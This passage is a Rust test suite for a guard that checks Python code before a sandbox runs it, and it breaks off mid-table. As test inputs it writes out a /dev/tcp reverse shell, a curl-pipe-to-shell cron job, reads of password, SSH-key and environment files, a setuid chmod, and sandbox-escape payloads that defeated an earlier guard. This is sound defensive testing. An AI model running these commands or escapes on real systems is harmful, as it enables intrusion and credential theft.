//! CodeGuard: red-team cases are blocked with the expected rule, the benign
//! corpus passes untouched, every rule has positive cases and near misses,
//! hostile input is refused cleanly, and mutated source never breaks it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use proptest::prelude::*;
use warden::guard::{
    CheckContext, Decision, Guard, GuardError, PolicyChoice, Tier, Verdict, render_human,
};

const WORKSPACE: &str = "/var/lib/warden/sessions/default";

fn guard() -> &'static Guard {
    static GUARD: OnceLock<Guard> = OnceLock::new();
    GUARD.get_or_init(|| Guard::with_default_policy().unwrap())
}

fn ctx() -> CheckContext {
    CheckContext {
        workspace: PathBuf::from(WORKSPACE),
        allowed_roots: vec![PathBuf::from("/data/granted")],
    }
}

fn check(src: &str) -> Verdict {
    guard().check(src.as_bytes(), &ctx())
}

fn rules(v: &Verdict) -> Vec<&str> {
    v.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[track_caller]
fn assert_blocked(src: &str, rule: &str) {
    let v = check(src);
    assert_eq!(
        v.decision,
        Decision::Blocked,
        "not blocked: {src:?}\n{v:#?}"
    );
    assert!(
        !v.retryable_error,
        "refused instead of judged: {src:?}\n{v:#?}"
    );
    assert!(
        rules(&v).contains(&rule),
        "expected rule {rule} for {src:?}, got {:?}",
        rules(&v)
    );
}

#[track_caller]
fn assert_allowed(src: &str) {
    let v = check(src);
    assert_eq!(
        v.decision,
        Decision::Allowed,
        "false positive for {src:?}:\n{v:#?}"
    );
    assert!(v.findings.is_empty(), "{src:?}: {v:#?}");
}

/// `rule` is among the findings for `src`, whatever else is (an escape may also trip
/// other rules, such as the import of a blocked module).
#[track_caller]
fn assert_finds(src: &str, rule: &str) {
    let v = check(src);
    assert!(
        rules(&v).contains(&rule),
        "{rule} not found for {src}: {:?}",
        rules(&v)
    );
}

#[track_caller]
fn assert_refused(src: &str, rule: &str) {
    let v = check(src);
    assert_eq!(v.decision, Decision::Blocked);
    assert!(v.retryable_error, "{v:#?}");
    assert_eq!(rules(&v), vec![rule], "{v:#?}");
}

fn corpus_dir(kind: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(kind)
}

fn corpus_files(kind: &str) -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<_> = std::fs::read_dir(corpus_dir(kind))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "py"))
        .map(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            (name, std::fs::read(&p).unwrap())
        })
        .collect();
    files.sort();
    files
}

// ---- corpora --------------------------------------------------------------

/// The red-team cases the guard must stop (INDEX "should stop" = guard or
/// both) and the rule expected to fire for each.
const REDTEAM_EXPECTED: &[(&str, &str)] = &[
    ("01", "blocked_module"),
    ("02", "blocked_module"),
    ("04", "blocked_module"),
    ("05", "blocked_builtin"),
    ("07", "blocked_builtin"),
    ("08", "blocked_module"),
    ("09", "blocked_module"),
    ("10", "reflection"),
    ("12", "module_reexport"),
    ("14", "internals_attribute"),
    ("15", "internals_attribute"),
    ("23", "internals_attribute"),
    ("24", "internals_attribute"),
    ("27", "blocked_builtin"),
    ("31", "blocked_builtin"),
    ("45", "blocked_module"),
    ("52", "blocked_module"),
    ("60", "blocked_module"),
    ("62", "blocked_module"),
    ("63", "blocked_module"),
    ("64", "blocked_attribute"),
    ("65", "blocked_module"),
    ("70", "path_outside_workspace"),
    ("72", "path_outside_workspace"),
    ("82", "path_outside_workspace"),
    ("83", "path_outside_workspace"),
    ("89", "blocked_module"),
    ("93", "blocked_module"),
];

/// Case numbers whose INDEX row says the guard (or both layers) should stop it.
fn guard_cases_from_index() -> Vec<String> {
    let index = std::fs::read_to_string(corpus_dir("redteam").join("INDEX.md")).unwrap();
    index
        .lines()
        .filter(|l| l.starts_with("| ") && l.contains(".py`"))
        .filter_map(|l| {
            let cols: Vec<&str> = l.split('|').map(str::trim).collect();
            let layer = cols.get(6)?;
            (*layer == "guard" || *layer == "both").then(|| cols[1].to_string())
        })
        .collect()
}

#[test]
fn every_guard_redteam_case_is_in_the_table() {
    let from_index = guard_cases_from_index();
    assert!(from_index.len() >= 20, "INDEX parse found {from_index:?}");
    for case in &from_index {
        assert!(
            REDTEAM_EXPECTED.iter().any(|(n, _)| n == case),
            "INDEX says the guard should stop case {case}; add it to REDTEAM_EXPECTED"
        );
    }
}

#[test]
fn redteam_cases_are_blocked_with_the_expected_rule() {
    let files = corpus_files("redteam");
    for (case, rule) in REDTEAM_EXPECTED {
        let (name, bytes) = files
            .iter()
            .find(|(n, _)| n.starts_with(&format!("{case}_")))
            .unwrap_or_else(|| panic!("redteam case {case} missing"));
        let v = guard().check(bytes, &ctx());
        assert_eq!(v.decision, Decision::Blocked, "{name} not blocked:\n{v:#?}");
        assert!(!v.retryable_error, "{name}: {v:#?}");
        assert!(
            rules(&v).contains(rule),
            "{name}: expected {rule}, got {:?}",
            rules(&v)
        );
    }
}

#[test]
fn os_layer_redteam_cases_are_judged_without_errors() {
    // The OS sandbox owns these; the guard only has to judge them cleanly.
    for (name, bytes) in corpus_files("redteam") {
        let v = guard().check(&bytes, &ctx());
        assert!(!v.retryable_error, "{name}: {v:#?}");
        assert!(!rules(&v).contains(&"internal_error"), "{name}");
    }
}

#[test]
fn benign_corpus_passes_with_zero_findings() {
    let files = corpus_files("benign");
    assert!(files.len() >= 20);
    for (name, bytes) in files {
        let v = guard().check(&bytes, &ctx());
        assert_eq!(v.decision, Decision::Allowed, "{name}:\n{v:#?}");
        assert!(v.findings.is_empty(), "{name}: {v:#?}");
    }
}

// ---- modules and bindings ---------------------------------------------------

#[test]
fn blocked_modules_in_every_binding_form() {
    for src in [
        "import os",
        "import os.path",
        "import os as report_utils",
        "import json, subprocess",
        "from os import path",
        "from os.path import join",
        "from http import client",
        "import http.client",
        "import urllib.request",
        "from urllib import request",
        "import importlib.util",
        "from . import os",
        "from .subprocess import run",
        "import ｏｓ",
        "def f():\n    import ctypes\n",
        "try:\n    import _posixsubprocess\nexcept ImportError:\n    pass\n",
        "import _frozen_importlib_external",
        "from builtins import open",
        "import asyncio.subprocess",
        "import concurrent.futures.process",
    ] {
        assert_blocked(src, "blocked_module");
    }
}

#[test]
fn blocked_module_messages_say_what_to_use_instead() {
    let v = check("import os");
    assert!(v.findings[0].message.contains("pathlib"), "{v:#?}");
    let v = check("from urllib import request");
    assert!(v.findings[0].message.contains("no network"), "{v:#?}");
}

#[test]
fn allowed_modules_stay_allowed() {
    for src in [
        "import json",
        "import http",
        "from urllib.parse import urlparse",
        "import asyncio",
        "import threading",
        "from concurrent.futures import ThreadPoolExecutor",
        "import pandas as pd\nimport numpy as np",
        "from __future__ import annotations",
        "from collections import *",
        "import string, textwrap, operator, functools",
    ] {
        assert_allowed(src);
    }
    // A blocked module's name as a prefix does not block: these run, noted as
    // unjudged (nobody audited them), never as blocked.
    for (src, module) in [
        ("from os_helpers import x", "os_helpers"),
        ("import osmosis", "osmosis"),
    ] {
        let v = check(src);
        assert_eq!(v.decision, Decision::Restricted, "{src:?}: {v:#?}");
        assert_eq!(rules(&v), ["unjudged_module"], "{src:?}: {v:#?}");
        assert_eq!(v.unjudged_modules, [module], "{src:?}");
    }
}

/// `[modules] unjudged`: a top-level module outside the stdlib and the audited
/// packages (policies/judged.toml) is noted once, as its setting says; the
/// judged set comes from the policy's data, never from what is installed.
#[test]
fn unjudged_modules_follow_the_policy_setting() {
    let code = "import sklearn.linear_model\nfrom xarray import Dataset\nimport sklearn\n\
                import numpy, json, scipy.stats\nfrom . import local\nfrom .pkg import y\n";
    let policy = |value: &str| {
        Guard::from_policy_toml(&format!(
            "extends = \"default\"\n[modules]\nblocked = []\nunjudged = \"{value}\"\n"
        ))
        .unwrap()
    };
    // The default is warn: the code runs, each unjudged module named once.
    let v = check(code);
    assert_eq!(v.decision, Decision::Restricted, "{v:#?}");
    assert_eq!(v.unjudged_modules, ["sklearn", "xarray"]);
    assert_eq!(rules(&v), ["unjudged_module", "unjudged_module"], "{v:#?}");
    assert!(v.findings[0].message.contains("`sklearn`"), "{v:#?}");
    assert_eq!((v.findings[0].line, v.findings[1].line), (1, 2));
    let v = policy("refuse").check(code.as_bytes(), &ctx());
    assert_eq!(v.decision, Decision::Blocked, "{v:#?}");
    assert!(
        v.findings[0]
            .message
            .contains("[modules] unjudged = \"refuse\""),
        "{v:#?}"
    );
    // allow: no finding, but the verdict still lists them for the session.
    let v = policy("allow").check(code.as_bytes(), &ctx());
    assert_eq!(v.decision, Decision::Allowed, "{v:#?}");
    assert!(v.findings.is_empty(), "{v:#?}");
    assert_eq!(v.unjudged_modules, ["sklearn", "xarray"]);
    // A blocked module is blocked, not also unjudged; stdlib and audited
    // packages are judged.
    let v = check("import requests\nimport numpy\nimport json\nimport PIL.Image");
    assert_eq!(rules(&v), ["blocked_module"], "{v:#?}");
    assert!(v.unjudged_modules.is_empty(), "{v:#?}");
    // A policy can judge a package itself; only top-level names are accepted.
    let g = Guard::from_policy_toml(
        "extends = \"default\"\n[modules]\nblocked = []\nunjudged = \"refuse\"\njudged = [\"sklearn\"]\n",
    )
    .unwrap();
    let v = g.check(b"import sklearn.linear_model", &ctx());
    assert_eq!(v.decision, Decision::Allowed, "{v:#?}");
    let err = Guard::from_policy_toml(
        "extends = \"default\"\n[modules]\nblocked = []\njudged = [\"sklearn.svm\"]\n",
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("modules.judged") && err.contains("top-level"),
        "{err}"
    );
    let err = Guard::from_policy_toml(
        "extends = \"default\"\n[modules]\nblocked = []\nunjudged = \"block\"\n",
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("unjudged"), "{err}");
}

#[test]
fn module_reexports_are_blocked() {
    for src in [
        "import glob\nglob.os.system('id')",
        "import logging\nlogging.os",
        "import random\nrandom._os",
        "import tempfile\ntempfile._os",
        "import typing\ntyping.sys.modules['os']",
        "from logging import os",
        "import platform\nplatform.subprocess",
        "x.builtins",
    ] {
        assert_blocked(src, "module_reexport");
    }
    for src in ["x.osx = 1", "df.sys_time", "p.ospath", "record.system_name"] {
        assert_allowed(src);
    }
}

#[test]
fn star_imports_cannot_smuggle_module_names() {
    assert_blocked(
        "from helpers import *\nos.system('id')",
        "unbound_module_name",
    );
    assert_blocked("sys.exit(0)", "unbound_module_name");
    assert_allowed("os = 'linux'\nprint(os)");
    assert_allowed("def f(sys):\n    return sys + 1\n");
}

// ---- builtins and names -----------------------------------------------------

#[test]
fn blocked_builtins_referenced_in_any_form() {
    for src in [
        "exec('print(1)')",
        "eval('1+1')",
        "compile('1', 'f', 'eval')",
        "__import__('os')",
        "globals()['x']",
        "locals()",
        "vars()",
        "vars(obj)",
        "breakpoint()",
        "help(len)",
        "g = eval",
        "@exec\ndef f():\n    pass\n",
        "handlers = {'calc': exec}",
        "list(map(eval, ['1']))",
        "f = lambda code, run=exec: run(code)",
        "runners = [exec for _ in range(2)]",
        "class C:\n    run = exec\n",
        "ｅｘｅｃ('1')",
        "b = __builtins__",
        "del eval",
        "from pandas import eval",
    ] {
        assert_blocked(src, "blocked_builtin");
    }
    for src in [
        "model.eval()",
        "cursor.execute('SELECT 1')",
        "import re\npat = re.compile(r'\\d+')",
        "evaluate = 3\nprint(evaluate)",
        "exec_time = 3",
        "eval = 5",
        "print(open('data.csv').read())",
        "print(input)",
        "mv = memoryview(b'abc')",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn dunder_names_outside_the_allowlist() {
    for src in [
        "class A:\n    def f(self):\n        return __class__\n",
        "x = __loader__",
        "__spec__",
        "__builtins__ = {}",
        "global __builtins__",
    ] {
        let v = check(src);
        assert_eq!(v.decision, Decision::Blocked, "{src}: {v:#?}");
    }
    for src in [
        "if __name__ == '__main__':\n    print(1)\n",
        "print(__doc__, __file__)",
        "__all__ = ['f']",
        "class V:\n    __slots__ = ('x',)\n    def __add__(self, o):\n        return self\n    __radd__ = __add__\n",
        "__version__ = '1.0'",
    ] {
        assert_allowed(src);
    }
}

// ---- attributes -------------------------------------------------------------

#[test]
fn interpreter_internals_are_blocked() {
    for src in [
        "().__class__",
        "object.__subclasses__()",
        "f.__globals__",
        "f.__code__",
        "x.__dict__",
        "C.__mro__",
        "C.__bases__",
        "C.__base__",
        "o.__reduce_ex__(2)",
        "o.__reduce__()",
        "o.__getattribute__('x')",
        "print.__self__",
        "gen.gi_frame",
        "coro.cr_frame",
        "agen.ag_frame",
        "frame.f_back",
        "frame.f_globals",
        "frame.f_locals",
        "frame.f_builtins",
        "e.__traceback__",
        "tb.tb_frame",
        "tb.tb_next",
        "code.co_code",
        "x.__ｃlass__",
        "x.__class__ = Other",
        "match p:\n    case C(__class__=k):\n        pass\n",
        "match p:\n    case C(gi_frame=f):\n        pass\n",
    ] {
        assert_blocked(src, "internals_attribute");
    }
}

#[test]
fn dunder_methods_and_harmless_dunder_reads_are_allowed() {
    for src in [
        "class P:\n    def __init__(self, x):\n        super().__init__()\n        self.x = x\n    def __repr__(self):\n        return f'P({self.x})'\n    def __eq__(self, o):\n        return self.x == o.x\n    def __getattr__(self, n):\n        return 0\n    def __getattribute__(self, n):\n        return 1\n    def __copy__(self):\n        return P(self.x)\n",
        "print(type(e).__name__, e.__cause__, e.__context__)",
        "print(len.__doc__, f.__qualname__, C.__module__)",
        "x.__len__()",
        "import numpy as np\nprint(np.__version__)",
        "class B(A):\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n",
        "object.__setattr__(self, 'x', 1)",
        "match p:\n    case Point(x=0, y=y):\n        print(y)\n",
        "self.__private = 1\nprint(self.__private)",
        "obj.frame\ndf.f_backup\nitem.code",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn dangerous_apis_from_allowed_modules() {
    for src in [
        "import asyncio\nasyncio.open_connection('h', 80)",
        "loop.create_connection(P, 'h', 80)",
        "import asyncio\nasyncio.create_subprocess_exec('sh')",
        "from asyncio import open_connection",
        "from concurrent.futures import ProcessPoolExecutor",
        "import types\ntypes.CodeType",
        "from types import FunctionType",
        "import pandas as pd\npd.read_pickle('x.pkl')",
        "conn.enable_load_extension(True)",
    ] {
        assert_blocked(src, "blocked_attribute");
    }
    for src in [
        "import asyncio\nasyncio.run(asyncio.gather(asyncio.sleep(0)))",
        "from types import SimpleNamespace\nns = SimpleNamespace(a=1)",
        "import platform\nprint(platform.system())",
    ] {
        assert_allowed(src);
    }
}

// ---- reflection ---------------------------------------------------------------

#[test]
fn reflection_with_computed_or_internal_names_is_blocked() {
    for src in [
        "getattr(o, name)",
        "getattr(o, 'ab' + 'c')",
        "getattr(o, '__class__')",
        "getattr(o, '__globals__')",
        "getattr(glob, 'os')",
        "getattr(g, 'gi_frame')",
        "getattr(*args)",
        "getattr(o, **kw)",
        "setattr(o, name, 1)",
        "delattr(o, name)",
        "hasattr(o, '__dict__')",
        "hasattr(o, n)",
        "g = getattr",
        "list(map(getattr, objs, names))",
        "import operator\noperator.attrgetter(n)",
        "import operator\noperator.attrgetter('__class__')",
        "import operator\noperator.attrgetter('a.__dict__')",
        "import operator\noperator.methodcaller(n)",
        "import operator\noperator.methodcaller('__reduce_ex__', 2)",
        "from operator import attrgetter as ag",
        "import operator\nag = operator.attrgetter",
        "b['__import__']",
        "frame_dict['__builtins__']",
    ] {
        assert_blocked(src, "reflection");
    }
    for src in [
        "getattr(o, 'total')",
        "getattr(o, 'x', None)",
        "getattr(o, name='total')",
        "setattr(o, 'count', 1)",
        "delattr(o, 'cache')",
        "hasattr(o, 'shape')",
        "import operator\nkey = operator.attrgetter('name', 'age')",
        "import operator\nop = operator.methodcaller('strip')",
        "import operator\nget = operator.itemgetter(1)",
        "from operator import attrgetter\nby = attrgetter('x.y')",
        "d['name']",
        "d['__name__']",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn format_string_field_paths() {
    for src in [
        "'{0.__class__}'.format(x)",
        "'{x.__init__.__globals__[os]}'.format(x=f)",
        "import string\nstring.Formatter().format('{0.__class__.__base__}', 1)",
        "tmpl = '{0.gi_frame.f_back}'",
        "'{0:{1.__dict__}}'.format(a, b)",
    ] {
        assert_blocked(src, "format_field");
    }
    for src in [
        "'{0.name}'.format(x)",
        "'{:.2f}'.format(3.14159)",
        "'{{0.__class__}}'.format(x)",
        "print(f'{x.real} {y!r:>10}')",
        "'{0[key]}'.format(d)",
    ] {
        assert_allowed(src);
    }
}

// ---- paths ------------------------------------------------------------------------

#[test]
fn paths_outside_the_workspace() {
    for src in [
        "open('/etc/passwd')",
        "open('/tmp/x', 'w')",
        "open('../secret.txt')",
        "open('../' * 16 + 'etc/passwd')",
        "from pathlib import Path\nPath('/').joinpath('tmp')",
        "import pandas as pd\npd.read_csv('/data/other/x.csv')",
        "open(file='/srv/x')",
        "p = '/home/alice/notes.txt'",
        "open('~/.bashrc')",
        "open('file:///etc/hosts')",
        "open(f'/var/log/{name}')",
        "'/'.join(['', 'etc', 'passwd'])",
        "open('/var/lib/warden/sessions/other/x')",
        "open('/var/lib/warden/sessions/default/../other/x')",
    ] {
        assert_blocked(src, "path_outside_workspace");
    }
    for src in [
        "open('/proc/self/root/etc/passwd')",
        "open('/dev/fd/3')",
        "open('/proc/self/environ')",
    ] {
        assert_blocked(src, "path_alias");
    }
    for src in [
        "open('data.csv')",
        "open('data/../out.csv', 'w')",
        "from pathlib import Path\n(Path('data') / 'a.txt').write_text('x')",
        "open('/var/lib/warden/sessions/default/out.csv')",
        "open('/data/granted/in.csv')",
        "ok = url.startswith('/api/v1/')",
        "parts = 'a/b/c'.split('/')",
        "s = s.replace('/', '-')",
        "print('Loading..')",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn raw_file_descriptors() {
    assert_blocked("open(3)", "open_file_descriptor");
    assert_blocked("open(0).read()", "open_file_descriptor");
    assert_blocked("import io\nio.FileIO(4, 'w')", "open_file_descriptor");
    assert_allowed("open('3.txt')");
}

// ---- tripwires ----------------------------------------------------------------------

#[test]
fn tripwires_are_marked() {
    for (src, id) in [
        ("cur.execute('DROP TABLE users')", "sql_drop"),
        ("cmd = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "dev_tcp"),
        (
            "key = open('/home/u/.ssh/id_rsa').read()",
            "ssh_private_key",
        ),
        ("q = 'DELETE FROM ' + 'orders;'", "sql_delete_all"),
        ("url = f'https://pastebin.com/raw/{pid}'", "paste_sites"),
        (
            "job = '* * * * * curl x | sh'\nopen('crontab.txt','w').write(job)",
            "pipe_to_shell",
        ),
        ("c = b'chmod 4755 /tmp/sh'", "setuid_chmod"),
    ] {
        let v = check(src);
        assert_eq!(v.decision, Decision::Blocked, "{src}");
        let f = v
            .findings
            .iter()
            .find(|f| f.rule == id)
            .unwrap_or_else(|| panic!("{src}: {v:#?}"));
        assert!(f.tripwire);
        assert!(v.tripwire());
    }
    // Docstrings and near misses do not trip.
    assert_allowed("def f():\n    \"\"\"Never DROP TABLE here.\"\"\"\n    return 1\n");
    assert_allowed("cur.execute('DELETE FROM orders WHERE id = ?', (3,))");
    assert_allowed("print('truncate the value to 2 places')");
}

// ---- decoding, limits, syntax --------------------------------------------------

#[test]
fn syntax_errors_are_retryable_with_position() {
    let v = check("x = 1\ndef f(:\n    pass\n");
    assert_eq!(v.decision, Decision::Blocked);
    assert!(v.retryable_error);
    let f = &v.findings[0];
    assert_eq!(f.rule, "syntax_error");
    assert_eq!(f.category, "syntax");
    assert_eq!(f.line, 2);
    assert!(f.col >= 1);
    assert!(f.message.starts_with("syntax error"));
}

#[test]
fn encodings_are_decoded_like_cpython() {
    let v = guard().check(b"# -*- coding: utf-7 -*-\nx = '+AF8AXw-'\n", &ctx());
    assert!(v.retryable_error);
    assert_eq!(rules(&v), vec!["source_encoding"]);
    assert!(v.findings[0].message.contains("utf-7"));
    let v = guard().check(b"x = '\xff'\n", &ctx());
    assert_eq!(rules(&v), vec!["source_encoding"]);
    let v = guard().check(b"\xEF\xBB\xBFimport os\n", &ctx());
    assert_eq!(rules(&v), vec!["blocked_module"]);
    let v = guard().check(b"# coding: utf8\nprint('ok')\n", &ctx());
    assert_eq!(v.decision, Decision::Allowed);
    let v = guard().check(b"x = 1\0\n", &ctx());
    assert_eq!(rules(&v), vec!["syntax_error"]);
}

#[test]
fn oversized_input_is_refused() {
    let big = format!("x = 1\n{}", "# pad\n".repeat(200_000));
    assert_refused(&big, "source_too_large");
}

#[test]
fn hostile_nesting_is_refused_without_overflow() {
    let n = 100_000;
    let cases = [
        format!("x = {}1{}", "(".repeat(n), ")".repeat(n)),
        format!("x = {}1{}", "[".repeat(n), "]".repeat(n)),
        format!("x = {}1{}", "{".repeat(n), "}".repeat(n)),
        format!("x = 1{}", "+1".repeat(n)),
        format!("x = a{}", ".b".repeat(n)),
        format!("x = f{}", "()".repeat(n)),
        format!("x = {}1", "-".repeat(n)),
        format!("x = {}1", "not ".repeat(n)),
        format!("x = {}1", "lambda: ".repeat(n)),
        format!("x = {}0", "lambda a, b=".repeat(20_000)),
        format!("x = f'{}'", "{x:".repeat(1000) + &"}".repeat(1000)),
    ];
    for src in &cases {
        let v = check(src);
        assert_eq!(v.decision, Decision::Blocked, "{}", &src[..40]);
        assert!(v.retryable_error, "{}", &src[..40]);
        assert_eq!(rules(&v), vec!["nesting_too_deep"], "{}", &src[..40]);
    }
    let mut deep_blocks = String::new();
    for i in 0..1_000 {
        deep_blocks.push_str(&" ".repeat(i));
        deep_blocks.push_str("if x:\n");
    }
    assert_refused(&deep_blocks, "nesting_too_deep");
    let mut ladder = String::from("if x == 0:\n    pass\n");
    for i in 1..20_000 {
        ladder.push_str(&format!("elif x == {i}:\n    pass\n"));
    }
    assert_refused(&ladder, "nesting_too_deep");
}

#[test]
fn moderate_nesting_is_still_judged() {
    let v = check(&format!("x = {}exec{}", "(".repeat(90), ")".repeat(90)));
    assert!(rules(&v).contains(&"blocked_builtin"), "{v:#?}");
    let v = check(&format!("x = 1{}\n", "+1".repeat(500)));
    assert_eq!(v.decision, Decision::Allowed);
}

// ---- policy API -----------------------------------------------------------------

#[test]
fn policy_loading_and_summary() {
    let s = guard().policy_summary();
    assert!(s.modules >= 31 && s.builtins >= 11 && s.tripwires >= 21 && s.attributes > 0);
    let json = serde_json::to_value(&s).unwrap();
    assert!(json.get("tripwires").is_some());

    let err = Guard::from_policy_file(Path::new("/nonexistent/policy.toml")).unwrap_err();
    assert!(matches!(err, GuardError::ReadPolicy { .. }));
    assert!(err.to_string().contains("/nonexistent/policy.toml"));

    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/default.toml");
    assert!(Guard::from_policy_file(&file).is_ok());
    assert!(Guard::from_policy_toml("not toml [").is_err());
}

#[test]
fn warn_rules_give_restricted() {
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/default.toml"),
    )
    .unwrap()
    .replace(
        "path_outside_workspace = \"block\"",
        "path_outside_workspace = \"warn\"",
    );
    let g = Guard::from_policy_toml(&text).unwrap();
    let v = g.check(b"open('/etc/hosts')", &ctx());
    assert_eq!(v.decision, Decision::Restricted);
    let v = g.check(b"import os\nopen('/etc/hosts')", &ctx());
    assert_eq!(v.decision, Decision::Blocked);
    let off = text.replace(
        "path_outside_workspace = \"warn\"",
        "path_outside_workspace = \"off\"",
    );
    let g = Guard::from_policy_toml(&off).unwrap();
    assert_eq!(
        g.check(b"open('/etc/hosts')", &ctx()).decision,
        Decision::Allowed
    );
}

#[test]
fn verdicts_serialize_in_snake_case_and_render() {
    let v = check("import os\n");
    let json = serde_json::to_value(&v).unwrap();
    assert_eq!(json["decision"], "blocked");
    assert_eq!(json["findings"][0]["rule"], "blocked_module");
    assert_eq!(json["findings"][0]["line"], 1);
    assert_eq!(json["findings"][0]["snippet"], "import os");
    let text = render_human("x.py", &v);
    assert!(text.contains("x.py:1:8: [blocked_module/module]"), "{text}");
    let schema = schemars::schema_for!(Verdict);
    assert!(
        serde_json::to_string(&schema)
            .unwrap()
            .contains("retryable_error")
    );
}

#[test]
fn findings_are_capped_but_tripwires_survive() {
    let src = "eval\n".repeat(5_000);
    let v = check(&src);
    assert_eq!(v.decision, Decision::Blocked);
    assert!(v.findings.len() <= 100);
    let src = format!("{}x = 'DROP TABLE users'\n", "eval\n".repeat(5_000));
    let v = check(&src);
    assert!(v.findings.len() <= 100);
    assert!(v.tripwire(), "{:?}", rules(&v));
}

// ---- fuzz ---------------------------------------------------------------------------

fn all_corpus() -> &'static Vec<Vec<u8>> {
    static ALL: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    ALL.get_or_init(|| {
        corpus_files("redteam")
            .into_iter()
            .chain(corpus_files("benign"))
            .map(|(_, b)| b)
            .collect()
    })
}

#[derive(Debug, Clone)]
enum Mutation {
    Flip { at: usize, byte: u8 },
    Truncate { at: usize },
    DuplicateLine { line: usize },
    DeleteLine { line: usize },
    Nest { at: usize, depth: usize, open: u8 },
    Insert { at: usize, bytes: Vec<u8> },
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(at, byte)| Mutation::Flip { at, byte }),
        any::<usize>().prop_map(|at| Mutation::Truncate { at }),
        any::<usize>().prop_map(|line| Mutation::DuplicateLine { line }),
        any::<usize>().prop_map(|line| Mutation::DeleteLine { line }),
        (
            any::<usize>(),
            0usize..400,
            prop::sample::select(vec![b'(', b'[', b'{', b'"', b'\'', b' '])
        )
            .prop_map(|(at, depth, open)| Mutation::Nest { at, depth, open }),
        (any::<usize>(), prop::collection::vec(any::<u8>(), 0..32))
            .prop_map(|(at, bytes)| Mutation::Insert { at, bytes }),
    ]
}

fn apply(mut src: Vec<u8>, m: &Mutation) -> Vec<u8> {
    let n = src.len().max(1);
    match m {
        Mutation::Flip { at, byte } => {
            if !src.is_empty() {
                src[at % n] = *byte;
            }
        }
        Mutation::Truncate { at } => src.truncate(at % n),
        Mutation::DuplicateLine { line } | Mutation::DeleteLine { line } => {
            let mut lines: Vec<Vec<u8>> = src.split(|&b| b == b'\n').map(<[u8]>::to_vec).collect();
            let i = line % lines.len();
            if matches!(m, Mutation::DuplicateLine { .. }) {
                let copy = lines[i].clone();
                lines.insert(i, copy);
            } else {
                lines.remove(i);
            }
            src = lines.join(&b'\n');
        }
        Mutation::Nest { at, depth, open } => {
            let close = match open {
                b'(' => b')',
                b'[' => b']',
                b'{' => b'}',
                other => *other,
            };
            let at = at % n.min(src.len() + 1);
            let mut out = src[..at].to_vec();
            out.extend(std::iter::repeat_n(*open, *depth));
            out.extend_from_slice(&src[at..]);
            out.extend(std::iter::repeat_n(close, *depth));
            src = out;
        }
        Mutation::Insert { at, bytes } => {
            let at = at % (src.len() + 1);
            src.splice(at..at, bytes.iter().copied());
        }
    }
    src
}

fn assert_sane(v: &Verdict) {
    assert!(!rules(v).contains(&"internal_error"), "{v:#?}");
    if v.retryable_error {
        assert_eq!(v.decision, Decision::Blocked);
        assert_eq!(v.findings.len(), 1);
    }
    for f in &v.findings {
        assert!(f.line >= 1 && f.col >= 1);
    }
}

proptest! {
    // 256 cases per property by default; PROPTEST_CASES=20000 for a long run.
    #![proptest_config(ProptestConfig::default())]

    #[test]
    fn mutated_corpus_never_panics(
        file in any::<prop::sample::Index>(),
        muts in prop::collection::vec(mutation(), 1..6),
    ) {
        let corpus = all_corpus();
        let mut src = corpus[file.index(corpus.len())].clone();
        for m in &muts {
            src = apply(src, m);
        }
        assert_sane(&guard().check(&src, &ctx()));
    }

    #[test]
    fn random_bytes_never_panic(src in prop::collection::vec(any::<u8>(), 0..2048)) {
        assert_sane(&guard().check(&src, &ctx()));
    }

    #[test]
    fn random_python_like_text_never_panics(
        src in "[a-z_ .,:;=+*()\\[\\]{}'\"\\\\#@0-9\n\t-]{0,600}"
    ) {
        assert_sane(&guard().check(src.as_bytes(), &ctx()));
    }
}

#[test]
fn writing_code_files_is_blocked() {
    for src in [
        "open('helper.py', 'w').write('x = 1')",
        "with open('evil.pth', mode='a') as f:\n    f.write('import x')",
        "from pathlib import Path\nPath('mod.py').write_text('print(1)')",
        "from pathlib import Path\nPath('pkg/ext.so').write_bytes(b'')",
        "from pathlib import Path\n(Path('pkg') / '__init__.py').write_text('')",
        "from pathlib import Path\nPath('m.py').open('w')",
        "import io\nio.open('m.py', 'w')",
    ] {
        assert_blocked(src, "code_file_write");
    }
    for src in [
        "print(open('script.py').read())",
        "open('report.txt', 'w').write('ok')",
        "from pathlib import Path\nPath('notes.md').write_text('x')",
        "from pathlib import Path\nsrc = Path('tool.py').read_text()",
    ] {
        assert_allowed(src);
    }
}

// ---- bypass families (hardening round) --------------------------------------------
//
// Each row is an escape that worked against an earlier guard (verified on
// CPython 3.11 with `python -I`, the worker's flags) and the rule that now
// stops it. They stand for families: the near-miss table below keeps the
// ordinary code around each fix allowed.

const BYPASSES: &[(&str, &str)] = &[
    // Modules that run a code string or a command for you.
    (
        "import _xxsubinterpreters as si\nsi.run_string(si.create(), 'print(1)')",
        "blocked_module",
    ),
    (
        "import _testcapi\n_testcapi.run_in_subinterp('print(1)')",
        "blocked_module",
    ),
    (
        "import _bootsubprocess\n_bootsubprocess.check_output(['id'])",
        "blocked_module",
    ),
    (
        "import tkinter\ntkinter.Tcl().eval('exec id')",
        "blocked_module",
    ),
    ("from _tkinter import create", "blocked_module"),
    ("import rlcompleter", "blocked_module"),
    (
        "import dis\nc = dis.Bytecode(lambda: 0).codeobj",
        "blocked_module",
    ),
    ("c = bc.codeobj", "internals_attribute"),
    // Modules that import a module named by a string and hand it back.
    (
        "import pkg_resources\npkg_resources.EntryPoint.parse('x = os:system').resolve()('id')",
        "blocked_module",
    ),
    (
